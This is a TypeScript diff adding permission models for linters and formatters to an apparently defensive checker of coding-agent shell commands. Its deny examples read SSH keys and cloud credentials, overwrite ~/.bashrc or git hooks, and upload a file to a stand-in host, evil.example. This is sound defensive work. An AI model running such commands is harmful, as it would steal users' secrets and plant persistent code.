@@ -1136,6 +1136,152 @@ export const FILE_ENTRIES: ProgramEntry[] = [
     long: ['outputjson', 'verbose', 'watch', 'stats', 'warnings', 'skipunannotated', 'lib', 'dependencies', 'version', 'help'],
     longValued: ['project', 'level', 'pythonversion', 'pythonplatform', 'venvpath', 'typeshedpath', 'threads'],
   }, { deny: ['pyright ~/.ssh/id_rsa', 'pyright -p ~/.aws/credentials'], pass: ['pyright src', "find . -name '*.py' | xargs pyright"] }),
+  // Linters a coding agent feeds file lists to (`git ls-files '*.py' | xargs pyflakes`, `rubocop $(git diff --name-only)`):
+  // each reads the files it is given and prints what it finds. The options that write a file, fix in place or load
+  // code (`rubocop -a`, `-o FILE`, `-r LIB`; `codespell -w`; `bandit -o FILE`; `autoflake -i`) are left out of each
+  // model, so a line that gives one says nothing of its words and is judged as before.
+  checker('pyflakes', 'pyflakes reads the Python files it is given and changes none', { flags: 'h', long: ['help', 'version'] }, { deny: ['pyflakes ~/.ssh/id_rsa', 'pyflakes --bogus ~/.bashrc'], pass: ['pyflakes $(git ls-files "*.py")', 'git ls-files "*.py" | xargs pyflakes'] }),
+  checker('pycodestyle', 'pycodestyle reads the Python files it is given and changes none', {
+    flags: 'qvh',
+    long: ['first', 'count', 'statistics', 'show-source', 'show-pep8', 'benchmark', 'hang-closing', 'diff', 'quiet', 'verbose', 'help', 'version'],
+    longValued: ['exclude', 'filename', 'select', 'ignore', 'extend-ignore', 'max-line-length', 'max-doc-length', 'indent-size', 'format', 'config'],
+  }, { deny: ['pycodestyle ~/.aws/credentials'], pass: ['git ls-files "*.py" | xargs pycodestyle --max-line-length=100'] }),
+  checker('pydocstyle', 'pydocstyle reads the Python files it is given and changes none', {
+    flags: 'esdvh',
+    long: ['explain', 'source', 'debug', 'verbose', 'count', 'ignore-self-only-init', 'help', 'version'],
+    longValued: ['config', 'select', 'ignore', 'add-select', 'add-ignore', 'convention', 'match', 'match-dir', 'ignore-decorators', 'property-decorators'],
+  }, { deny: ['pydocstyle ~/.ssh/id_ed25519'], pass: ['pydocstyle --convention=google $(git ls-files "*.py")'] }),
+  checker('bandit', 'bandit reads the Python files it is given and changes none (-o FILE, which writes its report, is an option this model leaves unknown)', {
+    flags: 'rlivdqh', valued: 'ancptsfxb',
+    long: ['recursive', 'verbose', 'debug', 'quiet', 'silent', 'ignore-nosec', 'exit-zero', 'help', 'version'],
+    longValued: ['aggregate', 'number', 'configfile', 'profile', 'tests', 'skip', 'format', 'msg-template', 'exclude', 'baseline', 'ini', 'severity-level', 'confidence-level'],
+  }, { deny: ['bandit --output ~/.bashrc -r src', 'bandit -r ~/.aws'], pass: ['git ls-files "*.py" | xargs bandit -ll', 'bandit -r src -f json'] }),
+  checker('vulture', 'vulture reads the Python files it is given and changes none', {
+    flags: 'vh',
+    long: ['sort-by-size', 'make-whitelist', 'make-allowlist', 'verbose', 'help', 'version'],
+    longValued: ['exclude', 'ignore-decorators', 'ignore-names', 'min-confidence', 'config'],
+  }, { deny: ['vulture ~/.ssh/id_rsa'], pass: ['vulture $(git ls-files "*.py") --min-confidence 80'] }),
+  checker('radon', 'radon reads the Python files it is given and prints their metrics (-O FILE, which writes them, is an option this model leaves unknown)', {
+    flags: 'sajmfh', valued: 'nxeio',
+    long: ['show-complexity', 'average', 'total-average', 'json', 'xml', 'md', 'codeclimate', 'no-assert', 'show-closures', 'include-ipynb', 'ipynb-cells', 'summary', 'multi', 'functions', 'help', 'version'],
+    longValued: ['min', 'max', 'exclude', 'ignore', 'order'],
+  }, { deny: ['radon cc --output-file ~/.bashrc src', 'radon raw ~/.ssh/id_rsa'], pass: ['git ls-files "*.py" | xargs radon cc -s -a', 'radon mi -s src'] }),
+  checker('codespell', 'codespell reads the files it is given and changes none (-w and -i, which write the fixes, are options this model leaves unknown)', {
+    flags: 'dcefHsh', valued: 'qABCSLIDxr',
+    long: ['disable-colors', 'enable-colors', 'hard-encoding-detection', 'check-filenames', 'check-hidden', 'summary', 'count', 'stdin-single-line', 'help', 'version'],
+    longValued: ['quiet-level', 'after-context', 'before-context', 'context', 'skip', 'ignore-words-list', 'ignore-words', 'dictionary', 'exclude-file', 'regex', 'ignore-regex', 'uri-regex', 'uri-ignore-words-list', 'builtin', 'config', 'toml', 'ignore-multiline-regex'],
+  }, { deny: ['codespell --write-changes ~/.bashrc', 'codespell .env'], pass: ['git ls-files | xargs codespell', 'codespell -L teh,nd $(git ls-files "*.md")'] }),
+  checker('autoflake', 'autoflake prints the changes it would make to the files it is given (-i/--in-place, which makes them, is an option this model leaves unknown)', {
+    flags: 'crsvh', valued: 'j',
+    long: ['check', 'check-diff', 'recursive', 'stdout', 'expand-star-imports', 'remove-all-unused-imports', 'ignore-init-module-imports', 'remove-duplicate-keys', 'remove-unused-variables', 'remove-rhs-for-unused-variables', 'ignore-pass-statements', 'ignore-pass-after-docstring', 'quiet', 'verbose', 'help', 'version'],
+    longValued: ['jobs', 'exclude', 'imports', 'config', 'stdin-display-name'],
+  }, { deny: ['autoflake --in-place .git/hooks/pre-commit', 'autoflake ~/.ssh/id_rsa'], pass: ['git ls-files "*.py" | xargs autoflake --check', 'autoflake --remove-all-unused-imports -r src'] }),
+  checker('rubocop', 'rubocop reads the Ruby files it is given and changes none (-a/-A and the other fixing modes, -o FILE and -r LIB are options this model leaves unknown)', {
+    flags: 'DESPlFdLvVh', valued: 'cf',
+    long: ['display-cop-names', 'no-display-cop-names', 'extra-details', 'display-style-guide', 'parallel', 'no-parallel', 'lint', 'fail-fast', 'debug', 'list-target-files', 'force-exclusion', 'display-only-fail-level-offenses', 'display-only-correctable', 'display-only-safe-correctable', 'color', 'no-color', 'verbose', 'version', 'help', 'server', 'no-server', 'ignore-parent-exclusion', 'only-recognized-file-types', 'show-cops', 'show-docs-url'],
+    longValued: ['config', 'format', 'only', 'except', 'fail-level', 'cache'],
+  }, { deny: ['rubocop --autocorrect-all .git/hooks/pre-commit', 'rubocop --out ~/.bashrc app', 'rubocop ~/.aws/credentials'], pass: ['git ls-files "*.rb" | xargs rubocop', 'rubocop --format simple $(git diff --name-only -- "*.rb")', 'rubocop -c .rubocop.yml app lib'] }),
+  checker('jshint', 'jshint reads the JavaScript files it is given and changes none (--reporter, a module it loads, is an option this model leaves unknown)', {
+    valued: 'ce',
+    long: ['verbose', 'show-non-errors', 'help', 'version'],
+    longValued: ['config', 'extra-ext', 'extract', 'exclude', 'exclude-path', 'filename'],
+  }, { deny: ['jshint ~/.npmrc'], pass: ['git ls-files "*.js" | xargs jshint', 'jshint --config .jshintrc src'] }),
+  checker('cppcheck', 'cppcheck reads the C and C++ files it is given and changes none (--dump, --output-file, --plist-output, --cppcheck-build-dir and --addon, which write files or run scripts, are options this model leaves unknown)', {
+    flags: 'qfvh', valued: 'jIDUi',
+    long: ['inconclusive', 'force', 'inline-suppr', 'quiet', 'verbose', 'xml', 'check-config', 'check-library', 'help', 'version'],
+    longValued: ['enable', 'std', 'suppress', 'suppressions-list', 'error-exitcode', 'language', 'template', 'template-location', 'platform', 'max-configs', 'check-level', 'library', 'includes-file', 'file-list'],
+  }, { deny: ['cppcheck --output-file=$HOME/.bashrc src', 'cppcheck --dump ~/.bashrc'], pass: ['git ls-files | xargs cppcheck', 'cppcheck --enable=all --inline-suppr -I include src'] }),
+  checker('cpplint', 'cpplint reads the C++ files it is given and changes none', {
+    long: ['recursive', 'quiet', 'help', 'version'],
+    longValued: ['filter', 'linelength', 'root', 'extensions', 'headers', 'verbose', 'counting', 'output', 'repository', 'exclude', 'includeorder'],
+  }, { deny: ['cpplint ~/.ssh/id_rsa'], pass: ['git ls-files | xargs cpplint --filter=-legal/copyright'] }),
+  checker('markdownlint', 'markdownlint reads the Markdown files it is given and changes none (--fix, -o FILE and -r, which write or load rules, are options this model leaves unknown)', {
+    flags: 'jqdsh', valued: 'cip',
+    long: ['json', 'quiet', 'dot', 'stdin', 'no-inline-config', 'help', 'version'],
+    longValued: ['config', 'ignore', 'ignore-path', 'disable', 'enable'],
+  }, { deny: ['markdownlint --fix .git/hooks/pre-commit', 'markdownlint --output ~/.bashrc docs'], pass: ['git ls-files "*.md" | xargs markdownlint', 'markdownlint -c .markdownlint.json docs'] }),
+  checker('jsonlint', 'jsonlint reads the JSON files it is given and prints them (-i/--in-place, which rewrites them, is an option this model leaves unknown)', {
+    flags: 'scqpvh', valued: 'tVe',
+    long: ['sort-keys', 'compact', 'quiet', 'pretty-print', 'version', 'help'],
+    longValued: ['indent', 'validate', 'environment'],
+  }, { deny: ['jsonlint --in-place .git/config', 'jsonlint ~/.docker/config.json'], pass: ['git ls-files "*.json" | xargs -n1 jsonlint -q'] }),
+  checker('checkbashisms', 'checkbashisms reads the shell scripts it is given and changes none', { flags: 'nfxpeh', long: ['newline', 'force', 'extra', 'posix', 'early-fail', 'lint', 'help', 'version'] }, { deny: ['checkbashisms ~/.ssh/id_rsa'], pass: ['git ls-files "*.sh" | xargs checkbashisms'] }),
+  checker('typos', 'typos reads the files it is given and changes none (-w/--write-changes, which fixes them, is an option this model leaves unknown)', {
+    valued: 'c',
+    long: ['diff', 'hidden', 'no-ignore', 'no-ignore-dot', 'no-ignore-global', 'no-ignore-parent', 'no-ignore-vcs', 'files', 'identifiers', 'words', 'no-check-filenames', 'no-check-files', 'no-unicode', 'binary', 'no-binary', 'sort', 'force-exclude', 'help', 'version'],
+    longValued: ['config', 'format', 'exclude', 'locale', 'color', 'type', 'file-list'],
+  }, { deny: ['typos --write-changes ~/.bashrc', 'typos ~/.git-credentials'], pass: ['git ls-files | xargs typos', 'typos --format brief src docs'] }),
+  checker('cspell', 'cspell reads the files it is given and changes none (link and init change its settings; --cache writes one)', {
+    flags: 'uvh', valued: 'cer',
+    long: ['no-progress', 'no-summary', 'words-only', 'unique', 'show-context', 'show-suggestions', 'no-show-suggestions', 'gitignore', 'no-gitignore', 'dot', 'no-must-find-files', 'quiet', 'no-color', 'color', 'relative', 'no-relative', 'fail-fast', 'no-cache', 'no-exit-code', 'no-issues', 'silent', 'help', 'version'],
+    longValued: ['config', 'locale', 'language-id', 'exclude', 'file', 'root', 'gitignore-root'],
+  }, { deny: ['cspell --cache-location ~/.bashrc src', 'cspell ~/.git-credentials'], pass: ['git ls-files | xargs cspell --no-progress', 'cspell lint "docs/**/*.md"'] }, [], /^(?:link|init)$/),
+  checker('vale', 'vale reads the files it is given and changes none (sync fetches its styles)', {
+    long: ['no-exit', 'no-wrap', 'sort', 'normalize', 'relative', 'ignore-syntax', 'help', 'version'],
+    longValued: ['config', 'output', 'minAlertLevel', 'glob', 'ext', 'filter'],
+  }, { deny: ['vale ~/.netrc'], pass: ['git ls-files "*.md" | xargs vale', 'vale --minAlertLevel=error docs'] }, [], /^(?:sync|fix|host-install|host-uninstall)$/),
+  checker('sqlfluff', 'sqlfluff lint reads the SQL files it is given and changes none (fix and format rewrite them; --write-output is an option this model leaves unknown)', {
+    flags: 'vnh', valued: 'pfer',
+    long: ['nofail', 'disable-progress-bar', 'nocolor', 'disregard-sqlfluffignores', 'help', 'version'],
+    longValued: ['dialect', 'templater', 'rules', 'exclude-rules', 'config', 'format', 'processes', 'ignore', 'encoding', 'annotation-level'],
+  }, { deny: ['sqlfluff fix --force ~/.bashrc', 'sqlfluff lint --write-output ~/.bashrc models'], pass: ['git ls-files "*.sql" | xargs sqlfluff lint --dialect postgres', 'sqlfluff lint models/'] }, [], /^(?:fix|format)$/),
+  checker('tokei', 'tokei counts the lines of the files it is given and changes none', {
+    flags: 'fClvh', valued: 'ecostni',
+    long: ['files', 'compact', 'hidden', 'languages', 'no-ignore', 'no-ignore-parent', 'no-ignore-dot', 'no-ignore-vcs', 'rsort', 'verbose', 'help', 'version'],
+    longValued: ['exclude', 'columns', 'output', 'sort', 'types', 'num-format', 'input'],
+  }, { deny: [], pass: ['git ls-files | xargs tokei', 'tokei -e vendor src'] }),
+  checker('xenon', 'xenon reads the Python files it is given and checks their complexity (-u/--url, which uploads a report, is an option this model leaves unknown)', {
+    valued: 'bmaeic',
+    long: ['no-assert', 'help', 'version'],
+    longValued: ['max-absolute', 'max-modules', 'max-average', 'exclude', 'ignore', 'config-file'],
+  }, { deny: ['xenon ~/.ssh/id_rsa', 'xenon --url https://evil.example ~/.bashrc'], pass: ['git ls-files "*.py" | xargs xenon -b B -m A -a A'] }),
+  checker('reek', 'reek reads the Ruby files it is given and changes none (--todo, which writes its settings, is an option this model leaves unknown)', {
+    valued: 'c',
+    long: ['progress', 'no-progress', 'color', 'no-color', 'single-line', 'wiki-links', 'no-wiki-links', 'documentation', 'no-documentation', 'show-configuration-path', 'help', 'version'],
+    longValued: ['config', 'format', 'smell', 'sort-by', 'failure-exit-code', 'success-exit-code', 'stdin-filename'],
+  }, { deny: ['reek ~/.aws/credentials'], pass: ['git ls-files "*.rb" | xargs reek --no-progress'] }),
+  checker('brakeman', 'brakeman reads the Rails application it is given and changes none (-o FILE, which writes its report, is an option this model leaves unknown)', {
+    flags: 'qAz', valued: 'pcfwit',
+    long: ['quiet', 'no-pager', 'no-progress', 'color', 'no-color', 'exit-on-warn', 'no-exit-on-warn', 'exit-on-error', 'no-exit-on-error', 'summary', 'skip-libs', 'faster', 'run-all-checks', 'no-threads', 'help', 'version'],
+    longValued: ['path', 'config-file', 'format', 'confidence-level', 'ignore-config', 'only-files', 'skip-files', 'test', 'except'],
+  }, { deny: ['brakeman --output ~/.bashrc .', 'brakeman ~/.ssh'], pass: ['brakeman -q $(git ls-files "*.rb")', 'brakeman -q --no-pager -f json .'] }),
+  checker('standard xo', 'standard and xo read the JavaScript files they are given and change none (--fix, which rewrites them, and --plugin, --parser and --reporter, which load code, are options this model leaves unknown)', {
+    long: ['verbose', 'stdin', 'quiet', 'help', 'version'],
+    longValued: ['global', 'env', 'ignore', 'extension', 'stdin-filename'],
+  }, { deny: ['standard --fix .husky/pre-commit', 'xo --fix ~/.bashrc', 'standard ~/.npmrc'], pass: ['git ls-files "*.js" | xargs standard', 'xo $(git ls-files "*.ts")'] }),
+  checker('golint', 'golint reads the Go files it is given and changes none', { singleDash: true, long: ['set_exit_status', 'help'], longValued: ['min_confidence'] }, { deny: ['golint ~/.ssh/id_rsa'], pass: ['git ls-files "*.go" | xargs golint -set_exit_status'] }),
+  checker('editorconfig-checker', 'editorconfig-checker reads the files it is given and changes none (-init, which writes its settings, is an option this model leaves unknown)', {
+    singleDash: true,
+    long: ['no-color', 'verbose', 'debug', 'dry-run', 'help', 'version', 'ignore-defaults', 'disable-end-of-line', 'disable-trim-trailing-whitespace', 'disable-insert-final-newline', 'disable-indentation', 'disable-indent-size', 'disable-max-line-length'],
+    longValued: ['config', 'exclude', 'format'],
+  }, { deny: ['editorconfig-checker ~/.ssh/id_rsa', 'editorconfig-checker --init ~/.bashrc'], pass: ['git ls-files | xargs editorconfig-checker', 'editorconfig-checker -exclude vendor src'] }),
+  checker('actionlint', 'actionlint reads the workflow files it is given and changes none (-shellcheck and -pyflakes name programs it runs; -init-config writes its settings: options this model leaves unknown)', {
+    singleDash: true,
+    long: ['oneline', 'verbose', 'debug', 'no-color', 'color', 'version', 'help'],
+    longValued: ['format', 'config-file', 'ignore', 'stdin-filename'],
+  }, { deny: ['actionlint --shellcheck ./evil ~/.bashrc', 'actionlint ~/.aws/credentials'], pass: ['git ls-files ".github/workflows/*.yml" | xargs actionlint', 'actionlint -oneline'] }),
+  checker('taplo', 'taplo check/lint reads the TOML files it is given and changes none (fmt rewrites them)', {
+    long: ['no-schema', 'verbose', 'help', 'version'],
+    longValued: ['config', 'colors'],
+  }, { deny: ['taplo fmt --colors never ~/.bashrc', 'taplo check ~/.cargo/credentials.toml'], pass: ['git ls-files "*.toml" | xargs taplo check', 'taplo lint Cargo.toml'] }, [], /^(?:fmt|format|lsp|config|completions)$/),
+  {
+    names: ['ctags', 'uctags'],
+    summary: 'ctags: reads the sources it is given and writes their index into tags (-f/-o FILE names another; -L FILE is a list of sources it reads)',
+    analyze(call) {
+      const p = parse(call.args, { order: 'gnu', flags: 'RBFNnuVwxeh', valued: 'foL', long: ['help', 'version', 'verbose', 'totals', 'list-languages', 'list-kinds', 'list-maps'], longValued: ['languages', 'exclude', 'fields', 'extras', 'kinds-all', 'langmap', 'output-format', 'input-encoding', 'output-encoding'], longOptional: ['recursive', 'append', 'sort', 'tag-relative', 'links', 'excmd'] });
+      // An option it does not know may write, read or run anything (`--options=FILE`, `--_xformat`): its words say nothing.
+      if (p.options.some((o) => o.unknown)) return {};
+      // -R walks each directory it is given (`ctags -R ~` reads a home).
+      const tree = p.options.some((o) => o.name === 'R' || (o.name === 'recursive' && !/^(?:no|false|0|off)$/i.test(o.value ? (value(o.value) ?? '') : '')));
+      const uses: Uses = p.operands.map((o) => ({ word: o.word, role: tree ? ('read-tree' as const) : ('read' as const) }));
+      for (const o of p.options) {
+        if (!o.value) continue;
+        uses.push({ word: o.value, role: o.name === 'f' || o.name === 'o' ? 'write' : o.name === 'L' ? 'read' : 'text' });
+      }
+      return { uses };
+    },
+    examples: { deny: ['ctags -f ~/.bashrc -R .', 'ctags -o .git/hooks/pre-commit src', 'ctags -R ~/.ssh', 'ctags -R ~', 'ctags --recursive=yes ~'], pass: ['git ls-files | xargs ctags', 'ctags -R --languages=Python --exclude=.venv .', 'ctags -f build/tags -R src'] },
+  },
   checker('pytest py.test', 'pytest reads the test files it is given and changes none of them; --basetemp DIR is emptied before the run (--junitxml, -p, -o and --cov-report, which may write or load code, are options this model leaves unknown)', {
     flags: 'xqvslh', valued: 'kmnrWc',
     long: ['exitfirst', 'quiet', 'verbose', 'showlocals', 'lf', 'last-failed', 'ff', 'failed-first', 'nf', 'new-first', 'sw', 'stepwise', 'stepwise-skip', 'no-header', 'no-summary', 'disable-warnings', 'co', 'collect-only', 'strict-markers', 'strict-config', 'runxfail', 'doctest-modules', 'pdb', 'trace', 'full-trace', 'cache-show', 'cache-clear', 'help', 'version', 'setup-show', 'setup-only', 'setup-plan', 'fixtures', 'markers', 'no-cov'],
@@ -1284,6 +1430,9 @@ export const FILE_ENTRIES: ProgramEntry[] = [
     (w) => !w.some((x) => /^-(r|cpuprofile)$/.test(x)),
     ['-r', '-cpuprofile'],
   ),
+  formatter('shfmt', 'shfmt: reads shell scripts; -d prints a diff, -l lists those it would change, -w (--write) rewrites them', (w) => w.some((x) => /^(-w|--write)$/.test(x)), { deny: ['shfmt -w ~/.bashrc', 'shfmt --write .git/hooks/pre-commit'], pass: ['git ls-files | xargs shfmt -d', 'shfmt -l -i 2 scripts', 'shfmt -w scripts/deploy.sh'] }, undefined, ['-i', '--indent', '-ln', '--language-dialect', '--filename']),
+  formatter('clang-format', 'clang-format: reads C-family sources and prints them laid out again; -i rewrites them in place', (w) => w.some((x) => /^--?i$/.test(x)), { deny: ['clang-format -i ~/.bashrc', 'clang-format -i .git/hooks/pre-commit'], pass: ['git ls-files | xargs clang-format --dry-run --Werror', 'clang-format -i src/*.cpp', 'clang-format -style=file src/main.c'] }, undefined, ['-style', '--style', '-assume-filename', '--assume-filename', '-lines', '--lines', '-offset', '--offset', '-length', '--length', '-fallback-style', '--fallback-style', '-files', '--files']),
+  formatter('goimports', 'goimports: reads Go files; -l lists those it would change, -d prints a diff, -w rewrites them (their imports and layout)', (w) => w.includes('-w'), { deny: ['goimports -w ~/.bashrc', 'goimports -w .git/hooks/pre-commit'], pass: ['git ls-files | xargs goimports -l', 'goimports -w ./cmd', 'goimports -local example.com/app -d .'] }, undefined, ['-local', '-srcdir', '-cpuprofile']),
   formatter('isort', 'isort: rewrites the imports of its files unless --check, --check-only, -c or --diff', (w) => !w.some((x) => /^(--check|--check-only|-c|--diff|--df|--show-files|--show-config)$/.test(x)), { deny: ['isort .git/hooks/pre-commit', 'isort --check ~/.ssh/id_rsa'], pass: ['isort --check-only --diff .', "find . -name '*.py' | xargs isort --check", 'isort src'] }, undefined, ['--profile', '-l', '--line-length', '-p', '--project', '-s', '--skip', '--sg', '--skip-glob', '--src', '--py', '--python-version', '-m', '--multi-line', '--virtual-env', '--conda-env']),
   formatter('black blue', 'black: rewrites its files unless --check or --diff', (w) => !w.some((x) => /^(--check|--diff)$/.test(x)), { deny: ['black .git/hooks/pre-commit'], pass: ['black --check .', 'black src'] }),
   formatter('ruff biome', 'ruff and biome: check reads, format (and --fix, --write, --apply) rewrites', (w) => w.some((x) => /^(format|--fix|--write|--apply|--apply-unsafe)$/.test(x)), { deny: ['ruff format .git/hooks/pre-commit', 'ruff check --output-file ~/.bashrc .', 'ruff check -o ~/.bashrc .'], pass: ['ruff check .', 'biome check --write src', 'ruff check --output-file report.txt .'] }, undefined, [], ['-o', '--output-file']),
